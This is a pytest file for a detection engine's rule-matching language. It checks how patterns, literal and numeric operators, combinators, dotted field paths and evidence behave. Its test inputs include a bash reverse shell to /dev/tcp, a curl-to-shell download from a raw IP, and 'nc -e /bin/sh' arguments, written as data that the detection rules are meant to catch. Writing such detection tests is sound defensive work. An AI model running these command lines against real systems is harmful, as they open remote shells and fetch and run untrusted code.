"""Match language semantics (see docs/rules.md), observed through RuleIndex.evaluate."""

from __future__ import annotations

import json
from typing import Any

import pytest

from ttp_core.engine.compiler import CompiledRule, compile_rule
from ttp_core.engine.fields import MAX_MATCH_TEXT
from ttp_core.engine.index import RuleIndex
from ttp_core.engine.patterns import BACKTRACK_MAX_INPUT
from ttp_core.rules.model import DEFAULT_FIELDS, Rule


def compiled(
    match: dict[str, Any],
    applies_to: tuple[str, ...] = ("command",),
    rule_id: str = "R1",
    **extra: Any,
) -> CompiledRule:
    rule = Rule.model_validate(
        {
            "rule_id": rule_id,
            "rule_version": 1,
            "name": rule_id.lower(),
            "applies_to": list(applies_to),
            "match": match,
            "emits": [{"tactic": "TA0002", "technique_id": "T1059", "confidence": 0.9}],
            **extra,
        }
    )
    return compile_rule(rule)


def fires(match: dict[str, Any], payload: Any, kind: str = "command", **extra: Any) -> bool:
    applies_to = extra.pop("applies_to", (kind,))
    index = RuleIndex.build([compiled(match, applies_to, **extra)])
    tags = index.evaluate({"source_kind": kind, "source_id": "ev-1", "payload": payload})
    return bool(tags)


# --- pattern ----------------------------------------------------------------------------


def test_pattern_is_searched_unanchored() -> None:
    match = {"field": "cmd", "pattern": "dev/tcp"}
    assert fires(match, {"cmd": "bash -i >& /dev/tcp/10.0.0.1/4444"})
    assert not fires(match, {"cmd": "bash -i"})


def test_pattern_is_case_sensitive_unless_it_says_otherwise() -> None:
    assert not fires({"field": "cmd", "pattern": "bash"}, {"cmd": "BASH -i"})
    assert fires({"field": "cmd", "pattern": "(?i)bash"}, {"cmd": "xx BaSh -i"})
    assert fires({"field": "cmd", "pattern": "bash", "ignore_case": True}, {"cmd": "BASH -i"})


def test_pattern_anchors_mean_what_they_say() -> None:
    match = {"field": "cmd", "pattern": "^ls\\b"}
    assert fires(match, {"cmd": "ls -la"})
    assert not fires(match, {"cmd": "echo; ls -la"})
    assert fires({"field": "cmd", "pattern": "sh$"}, {"cmd": "/bin/sh"})
    assert not fires({"field": "cmd", "pattern": "sh$"}, {"cmd": "/bin/sh -c x"})


def test_pattern_with_alternation_and_classes() -> None:
    match = {"field": "cmd", "pattern": "(?:wget|curl)\\s+https?://\\d+\\.\\d+"}
    assert fires(match, {"cmd": "cd /tmp; curl  http://10.1.2.3/x.sh | sh"})
    assert not fires(match, {"cmd": "curl https://example.com"})


def test_pattern_matches_unicode_text() -> None:
    assert fires({"field": "cmd", "pattern": "пароль"}, {"cmd": "echo пароль"})
    assert fires({"field": "cmd", "pattern": "(?i)ÉCOLE"}, {"cmd": "une école"})


def test_backtracking_only_pattern_with_lookahead_works_and_is_flagged() -> None:
    rule = compiled({"field": "cmd", "pattern": "foo(?=bar)"})
    assert rule.bounded_patterns == ((("match", "pattern"), "foo(?=bar)"),)
    index = RuleIndex.build([rule])
    assert index.evaluate({"source_kind": "command", "payload": {"cmd": "xx foobar"}})
    assert not index.evaluate({"source_kind": "command", "payload": {"cmd": "xx foobaz"}})


def test_backtracking_only_pattern_honours_ignore_case() -> None:
    match = {"field": "cmd", "pattern": "(\\w)\\1x", "ignore_case": True}
    assert fires(match, {"cmd": "AAX"})
    assert not fires(match, {"cmd": "ABX"})


def test_backreference_pattern_inside_a_combinator_works() -> None:
    match = {"all": [{"field": "cmd", "contains": "x"}, {"field": "cmd", "pattern": "(ab)\\1"}]}
    assert fires(match, {"cmd": "x abab"})
    assert not fires(match, {"cmd": "x ab"})


def test_linear_patterns_are_not_flagged() -> None:
    assert compiled({"field": "cmd", "pattern": "(a+)+$"}).bounded_patterns == ()


def test_catastrophic_backtracking_pattern_on_64kb_input_returns() -> None:
    rule = compiled({"field": "cmd", "pattern": "(?=a)(a+)+$"})
    assert rule.bounded_patterns
    index = RuleIndex.build([rule])
    text = "a" * (64 * 1024) + "!"
    assert index.evaluate({"source_kind": "command", "payload": {"cmd": text}}) == []
    # Several such fields in one event, and a list of them, also return.
    payload = {"cmd": ["a" * 30_000 + "!", "a" * 65_536 + "!"]}
    assert index.evaluate({"source_kind": "command", "payload": payload}) == []


def test_nested_quantifier_with_backreference_on_large_input_returns() -> None:
    index = RuleIndex.build([compiled({"field": "cmd", "pattern": "^(\\w+\\s?)*\\1$"})])
    text = "word " * 13_000 + "!"
    assert index.evaluate({"source_kind": "command", "payload": {"cmd": text}}) == []


def test_linear_pattern_on_a_very_long_value_returns_and_sees_its_start() -> None:
    index = RuleIndex.build([compiled({"field": "cmd", "pattern": "(a+)+$|^start"})])
    text = "start" + "a" * (10 * 1024 * 1024)
    assert index.evaluate({"source_kind": "command", "payload": {"cmd": text}})


def test_string_operators_read_only_the_first_max_match_text_characters() -> None:
    match = {"field": "cmd", "contains": "needle"}
    assert fires(match, {"cmd": "x" * (MAX_MATCH_TEXT - 6) + "needle"})
    assert not fires(match, {"cmd": "x" * MAX_MATCH_TEXT + "needle"})


def test_the_read_limit_is_not_mistaken_for_the_end_of_a_longer_value() -> None:
    cut = MAX_MATCH_TEXT
    long_value = "x" * (cut - 3) + ".sh --now"
    assert not fires({"field": "cmd", "endswith": ".sh"}, {"cmd": long_value})
    assert not fires({"field": "cmd", "endswith": ".sh"}, {"cmd": [long_value]})
    assert not fires({"field": "cmd", "pattern": "^x+$"}, {"cmd": "x" * cut + "y"})
    assert not fires({"field": "cmd", "pattern": "(?m)x$"}, {"cmd": "x" * cut + "y"})
    assert not fires({"field": "cmd", "pattern": "x\\z"}, {"cmd": "x" * cut + "y"})
    # ...while values that really end there still match.
    assert fires({"field": "cmd", "endswith": ".sh"}, {"cmd": "x" * (cut - 3) + ".sh"})
    assert fires({"field": "cmd", "pattern": "^x+$"}, {"cmd": "x" * cut})
    assert fires({"field": "cmd", "pattern": "(?m)x$"}, {"cmd": "x" * cut + "\ny"})


def test_word_boundary_at_the_read_limit_sees_the_next_character() -> None:
    cut = MAX_MATCH_TEXT
    assert not fires({"field": "cmd", "pattern": "foo\\b"}, {"cmd": "x" * (cut - 3) + "foobar"})
    assert fires({"field": "cmd", "pattern": "foo\\b"}, {"cmd": "x" * (cut - 3) + "foo bar"})
    assert fires({"field": "cmd", "pattern": "foo\\b"}, {"cmd": ["y", "x" * (cut - 3) + "foo bar"]})


def test_backtracking_pattern_does_not_mistake_its_input_cap_for_the_end() -> None:
    cap = BACKTRACK_MAX_INPUT
    assert not fires({"field": "cmd", "pattern": "(?<=x)x+$"}, {"cmd": "x" * (cap + 10) + "y"})
    assert fires({"field": "cmd", "pattern": "(?<=x)x+$"}, {"cmd": "x" * (cap + 10)})
    text = "x" * (cap - 3) + "foobar"
    assert not fires({"field": "cmd", "pattern": "foo(?!bar)"}, {"cmd": text})
    assert fires({"field": "cmd", "pattern": "foo(?!bar)"}, {"cmd": text.replace("bar", "baz")})


# --- literal string operators ------------------------------------------------------------


@pytest.mark.parametrize(
    ("operator", "operand", "hit", "miss"),
    [
        ("contains", "/dev/tcp", "bash >& /dev/tcp/1", "bash -i"),
        ("startswith", "wget ", "wget http://x", "cd; wget http://x"),
        ("endswith", ".sh", "chmod +x run.sh", "run.sh --now"),
        ("equals", "whoami", "whoami", "whoami; id"),
    ],
)
def test_literal_string_operators(operator: str, operand: str, hit: str, miss: str) -> None:
    match = {"field": "cmd", operator: operand}
    assert fires(match, {"cmd": hit})
    assert not fires(match, {"cmd": miss})
    assert not fires(match, {"cmd": hit.upper()} if hit != hit.upper() else {"cmd": "-"})


@pytest.mark.parametrize(
    ("operator", "operand", "text"),
    [
        ("contains", "/DEV/TCP", "bash >& /dev/tcp/1"),
        ("startswith", "WGET ", "wget http://x"),
        ("endswith", ".SH", "run.sh"),
        ("equals", "WhoAmI", "whoami"),
        ("in", ["ROOT", "ADMIN"], "Admin"),
    ],
)
def test_literal_string_operators_with_ignore_case(operator: str, operand: Any, text: str) -> None:
    assert fires({"field": "f", operator: operand, "ignore_case": True}, {"f": text})
    assert not fires({"field": "f", operator: operand}, {"f": text})


def test_literal_operators_treat_regex_metacharacters_literally() -> None:
    assert fires({"field": "f", "contains": "a.b(c)*"}, {"f": "xx a.b(c)* yy"})
    assert not fires({"field": "f", "contains": "a.b"}, {"f": "axb"})
    assert not fires({"field": "f", "equals": ".*"}, {"f": "anything"})
    assert fires({"field": "f", "startswith": "(?i)"}, {"f": "(?i)x"})
    assert not fires({"field": "f", "startswith": "(?i)A"}, {"f": "a"})
    assert fires({"field": "f", "in": ["a|b", "c"]}, {"f": "a|b"})
    assert not fires({"field": "f", "in": ["a|b", "c"]}, {"f": "a"})


def test_equals_is_anchored_at_both_ends_even_with_newlines() -> None:
    assert not fires({"field": "f", "equals": "root"}, {"f": "root\n"})
    assert not fires({"field": "f", "equals": "root"}, {"f": "x\nroot"})
    assert not fires({"field": "f", "startswith": "root"}, {"f": "x\nroot"})
    assert not fires({"field": "f", "endswith": "root"}, {"f": "root\nx"})


def test_in_matches_any_listed_value_exactly() -> None:
    match = {"field": "user", "in": ["root", "admin", "oracle"]}
    assert fires(match, {"user": "admin"})
    assert not fires(match, {"user": "administrator"})
    assert not fires(match, {"user": "Admin"})


def test_in_with_mixed_types_compares_numbers_numerically_and_text_exactly() -> None:
    match = {"field": "v", "in": [22, "ssh", True]}
    assert fires(match, {"v": 22})
    assert fires(match, {"v": 22.0})
    assert fires(match, {"v": "22"})
    assert fires(match, {"v": "ssh"})
    assert fires(match, {"v": True})
    assert not fires(match, {"v": "SSH"})
    assert not fires(match, {"v": 23})
    assert fires({**match, "ignore_case": True}, {"v": "SSH"})


def test_equals_number_matches_numeric_values_and_numeric_strings() -> None:
    match = {"field": "port", "equals": 22}
    assert fires(match, {"port": 22})
    assert fires(match, {"port": 22.0})
    assert fires(match, {"port": " 22 "})
    assert not fires(match, {"port": 23})
    assert not fires(match, {"port": "twenty-two"})
    assert not fires(match, {"port": True})


def test_equals_text_matches_the_text_of_numbers() -> None:
    assert fires({"field": "port", "equals": "22"}, {"port": 22})


def test_equals_boolean_matches_only_that_boolean() -> None:
    match = {"field": "tty", "equals": True}
    assert fires(match, {"tty": True})
    assert not fires(match, {"tty": 1})
    assert not fires(match, {"tty": "true"})
    assert not fires(match, {"tty": False})
    assert fires({"field": "tty", "equals": False}, {"tty": False})
    assert not fires({"field": "n", "equals": 1}, {"n": True})


def test_string_operators_see_booleans_and_numbers_as_text() -> None:
    assert fires({"field": "n", "contains": "4"}, {"n": 1_440})
    assert fires({"field": "b", "equals": "true"}, {"b": True})


def test_string_operators_never_match_mappings_or_nulls() -> None:
    match = {"field": "f", "contains": "x"}
    assert not fires(match, {"f": {"x": "x"}})
    assert not fires(match, {"f": None})
    assert not fires(match, {})


# --- exists -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "present"),
    [
        ({"f": "x"}, True),
        ({"f": ""}, True),
        ({"f": 0}, True),
        ({"f": False}, True),
        ({"f": []}, True),
        ({"f": {}}, True),
        ({"f": None}, False),
        ({}, False),
        ({"g": "x"}, False),
    ],
)
def test_exists_true_and_false(payload: dict[str, Any], present: bool) -> None:
    assert fires({"field": "f", "exists": True}, payload) is present
    assert fires({"field": "f", "exists": False}, payload) is not present


def test_exists_on_a_dotted_path() -> None:
    match = {"field": "tls.sni", "exists": True}
    assert fires(match, {"tls": {"sni": "example.com"}})
    assert not fires(match, {"tls": {"ja3": "x"}})
    assert not fires(match, {"tls": "sni"})


# --- numeric comparisons -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("operator", "limit", "value", "expected"),
    [
        ("gt", 10, 11, True),
        ("gt", 10, 10, False),
        ("gte", 10, 10, True),
        ("gte", 10, 9.99, False),
        ("lt", 10, 9, True),
        ("lt", 10, 10, False),
        ("lte", 10, 10, True),
        ("lte", 10, 10.01, False),
        ("gt", 0.5, 0.6, True),
        ("lt", -1, -2, True),
        ("gt", 10, "11", True),
        ("gt", 10, " 11.5 ", True),
        ("gt", 10, "1e3", True),
        ("lte", 10, "10", True),
        ("gt", 10, "eleven", False),
        ("gt", 10, "", False),
        ("gt", 10, "nan", False),
        ("gt", 10, True, False),
        ("lt", 10, False, False),
        ("gt", 10, None, False),
        ("gt", 10, "9" * 65, False),
    ],
)
def test_numeric_comparisons_including_numeric_strings(
    operator: str, limit: float, value: Any, expected: bool
) -> None:
    assert fires({"field": "n", operator: limit}, {"n": value}) is expected


def test_numeric_comparison_with_a_missing_field_does_not_fire() -> None:
    assert not fires({"field": "n", "gt": 0}, {})


def test_numeric_comparisons_on_integers_too_large_for_a_float() -> None:
    huge = json.loads("1" + "0" * 400)
    assert fires({"field": "n", "gt": 5}, {"n": huge})
    assert not fires({"field": "n", "lt": 5}, {"n": huge})
    assert not fires({"field": "n", "equals": 5}, {"n": huge})
    assert fires({"field": "n", "lt": huge}, {"n": 5})
    assert fires({"field": "n", "equals": huge}, {"n": huge})
    assert not fires({"field": "n", "equals": huge}, {"n": huge + 1})
    assert fires({"field": "n", "in": [huge, "x"]}, {"n": huge})


def test_numeric_comparisons_are_exact_for_large_integers() -> None:
    big = 2**53
    assert fires({"field": "n", "gt": big}, {"n": big + 1})
    assert not fires({"field": "n", "equals": big}, {"n": big + 1})


def test_numeric_comparison_on_a_list_fires_if_any_element_does() -> None:
    match = {"field": "sizes", "gte": 1000}
    assert fires(match, {"sizes": [1, 5, "2048"]})
    assert not fires(match, {"sizes": [1, 5, "x"]})


# --- combinators -------------------------------------------------------------------------


def test_all_requires_every_child() -> None:
    match = {"all": [{"field": "cmd", "contains": "curl"}, {"field": "cmd", "contains": "| sh"}]}
    assert fires(match, {"cmd": "curl http://x | sh"})
    assert not fires(match, {"cmd": "curl http://x"})
    assert not fires(match, {"cmd": "cat x | sh"})


def test_any_requires_one_child() -> None:
    match = {"any": [{"field": "cmd", "contains": "wget"}, {"field": "cmd", "contains": "curl"}]}
    assert fires(match, {"cmd": "wget x"})
    assert fires(match, {"cmd": "curl x"})
    assert not fires(match, {"cmd": "fetch x"})


def test_not_inverts_its_child() -> None:
    match = {
        "all": [{"field": "cmd", "contains": "ssh"}, {"not": {"field": "user", "equals": "git"}}]
    }
    assert fires(match, {"cmd": "ssh x", "user": "root"})
    assert fires(match, {"cmd": "ssh x"})
    assert not fires(match, {"cmd": "ssh x", "user": "git"})


def test_not_at_the_top_level_fires_without_any_regex_hit() -> None:
    match = {"not": {"field": "user", "in": ["git", "deploy"]}}
    assert fires(match, {"user": "root"})
    assert fires(match, {})
    assert not fires(match, {"user": "git"})


def test_double_negation_is_the_child() -> None:
    match = {"not": {"not": {"field": "cmd", "contains": "x"}}}
    assert fires(match, {"cmd": "x"})
    assert not fires(match, {"cmd": "y"})


@pytest.mark.parametrize(
    ("match", "payload"),
    [
        ({"field": "n", "gt": 3}, {"n": 4}),
        ({"field": "k", "exists": True}, {"k": 1}),
        ({"field": "k", "exists": False}, {}),
        ({"field": "k", "equals": 7}, {"k": 7}),
        ({"any": [{"field": "cmd", "contains": "zzz"}, {"field": "n", "lt": 0}]}, {"n": -1}),
        ({"all": [{"field": "n", "gte": 1}, {"field": "m", "lte": 1}]}, {"n": 1, "m": 1}),
        ({"any": [{"not": {"field": "a", "contains": "x"}}]}, {"a": "y"}),
    ],
)
def test_rules_fire_without_any_regex_hit(match: dict[str, Any], payload: dict[str, Any]) -> None:
    assert fires(match, payload)


def test_deeply_nested_combinators() -> None:
    match = {
        "any": [
            {
                "all": [
                    {"field": "a", "equals": "1"},
                    {"not": {"any": [{"field": "b", "exists": True}]}},
                ]
            },
            {"all": [{"field": "c", "gt": 5}, {"field": "d", "pattern": "^x+$"}]},
        ]
    }
    assert fires(match, {"a": "1"})
    assert not fires(match, {"a": "1", "b": 0})
    assert fires(match, {"c": 6, "d": "xxx"})
    assert not fires(match, {"c": 6, "d": "xyx"})


def test_two_leaves_on_the_same_field_with_the_same_operand_are_distinct() -> None:
    match = {"all": [{"field": "cmd", "contains": "a"}, {"not": {"field": "cmd", "contains": "a"}}]}
    assert not fires(match, {"cmd": "a"})
    assert not fires(match, {"cmd": "b"})


# --- fields: defaults, dotted paths, lists -------------------------------------------------


@pytest.mark.parametrize(("kind", "field"), sorted(DEFAULT_FIELDS.items()))
def test_default_field_per_source_kind(kind: str, field: str) -> None:
    assert fires({"contains": "evil"}, {field: "so evil"}, kind=kind)
    assert not fires({"contains": "evil"}, {"other": "so evil"}, kind=kind)


def test_spec_default_fields() -> None:
    assert DEFAULT_FIELDS == {
        "command": "command_text",
        "http_request": "raw_url",
        "auth_attempt": "username",
        "payload": "payload_text",
        "email": "subject",
    }


def test_one_rule_reads_each_kinds_default_field() -> None:
    index = RuleIndex.build([compiled({"contains": "evil"}, ("command", "email"))])
    assert index.evaluate({"source_kind": "command", "payload": {"command_text": "evil"}})
    assert index.evaluate({"source_kind": "email", "payload": {"subject": "evil"}})
    assert not index.evaluate({"source_kind": "email", "payload": {"command_text": "evil"}})


def test_rule_never_fires_for_a_kind_it_does_not_apply_to() -> None:
    index = RuleIndex.build([compiled({"field": "x", "contains": "evil"}, ("command",))])
    assert not index.evaluate({"source_kind": "payload", "payload": {"x": "evil"}})
    assert not index.evaluate({"source_kind": "Command", "payload": {"x": "evil"}})


def test_dotted_path_reads_nested_mappings() -> None:
    match = {"field": "http.headers.user_agent", "contains": "sqlmap"}
    assert fires(match, {"http": {"headers": {"user_agent": "sqlmap/1.7"}}})
    assert not fires(match, {"http": {"headers": {"referer": "sqlmap"}}})
    assert not fires(match, {"http": "headers.user_agent sqlmap"})
    assert not fires(match, {"http": None})


def test_literal_dotted_key_is_read_before_the_nested_path() -> None:
    match = {"field": "a.b", "equals": "flat"}
    assert fires(match, {"a.b": "flat", "a": {"b": "nested"}})
    assert fires(match, {"a": {"b": "flat"}})
    assert not fires({"field": "a.b", "equals": "nested"}, {"a.b": "flat", "a": {"b": "nested"}})


def test_list_value_matches_if_any_element_matches() -> None:
    match = {"field": "args", "equals": "-e"}
    assert fires(match, {"args": ["nc", "-e", "/bin/sh"]})
    assert not fires(match, {"args": ["nc", "-l"]})
    assert not fires(match, {"args": []})


def test_list_value_skips_non_scalar_elements() -> None:
    match = {"field": "args", "contains": "x"}
    assert not fires(match, {"args": [{"x": "x"}, None]})
    assert fires(match, {"args": [{"x": "x"}, None, "x"]})
    assert fires(match, {"args": [["a", "x"], "b"]})


def test_path_through_a_list_of_mappings_visits_every_element() -> None:
    match = {"field": "attachments.name", "endswith": ".exe"}
    payload = {"attachments": [{"name": "invoice.pdf"}, {"size": 3}, {"name": "setup.exe"}]}
    assert fires(match, payload)
    assert not fires(match, {"attachments": [{"name": "invoice.pdf"}, "setup.exe"]})
    assert fires({"field": "attachments.size", "gt": 2}, payload)
    assert fires({"field": "attachments.name", "exists": True}, payload)
    assert not fires({"field": "attachments.hash", "exists": True}, payload)


def test_path_through_nested_lists_of_mappings() -> None:
    payload = {"mail": {"parts": [{"headers": {"cte": "base64"}}, {"headers": {"cte": "7bit"}}]}}
    assert fires({"field": "mail.parts.headers.cte", "equals": "7bit"}, payload)
    assert not fires({"field": "mail.parts.headers.cte", "equals": "8bit"}, payload)


def test_many_rules_on_one_field_and_a_long_value_still_fire() -> None:
    rules = [
        compiled({"field": "cmd", "contains": f"token{i:04d}x"}, rule_id=f"R{i}")
        for i in range(500)
    ]
    rules.append(compiled({"field": "cmd", "pattern": "token0007x[0-9]+y"}, rule_id="P"))
    index = RuleIndex.build(rules)
    text = "filler " * 9000 + "token0499x token0007x123y"
    assert len(text) < MAX_MATCH_TEXT
    tags = index.evaluate({"source_kind": "command", "payload": {"cmd": text}})
    assert sorted(t.rule_id for t in tags) == ["P", "R499", "R7"]


# --- evidence ------------------------------------------------------------------------


def test_evidence_fields_are_copied_from_the_payload() -> None:
    rule = compiled(
        {"field": "cmd", "contains": "x"},
        evidence_fields=["cmd", "http.path", "attachments.name", "missing", "port"],
    )
    payload = {
        "cmd": "x",
        "http": {"path": "/a"},
        "attachments": [{"name": "a"}, {"name": "b"}],
        "port": 22,
    }
    (tag,) = RuleIndex.build([rule]).evaluate({"source_kind": "command", "payload": payload})
    assert tag.evidence == {
        "cmd": "x",
        "http.path": "/a",
        "attachments.name": ["a", "b"],
        "port": 22,
    }


def test_long_evidence_is_truncated() -> None:
    rule = compiled({"field": "cmd", "contains": "x"}, evidence_fields=["cmd"])
    (tag,) = RuleIndex.build([rule]).evaluate(
        {"source_kind": "command", "payload": {"cmd": "x" * 100_000}}
    )
    assert tag.evidence["cmd"] == "x" * 1024
